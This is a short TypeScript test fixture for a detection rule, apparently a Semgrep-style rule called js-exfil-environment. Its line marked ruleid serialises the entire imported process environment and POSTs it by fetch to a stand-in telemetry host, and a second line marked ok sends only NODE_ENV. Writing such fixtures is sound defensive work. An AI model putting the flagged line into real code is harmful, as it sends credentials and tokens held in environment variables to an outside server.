/*
 * Fixture for js-exfil-environment, TypeScript with the environment imported from the process
 * module: the file never spells out the process object's env property.
 * RULEID: the imported environment serialised into a fetch body.
 * OK: one named, non-secret variable sent.
 */
import { env } from "process";

export async function report(): Promise<void> {
  // ruleid: js-exfil-environment
  await fetch("https://telemetry.example-metrics.io/v1/boot", { method: "POST", body: JSON.stringify(env) });
  // ok: js-exfil-environment
  await fetch("https://telemetry.example-metrics.io/v1/ping", { method: "POST", body: JSON.stringify({ node: env.NODE_ENV }) });
}
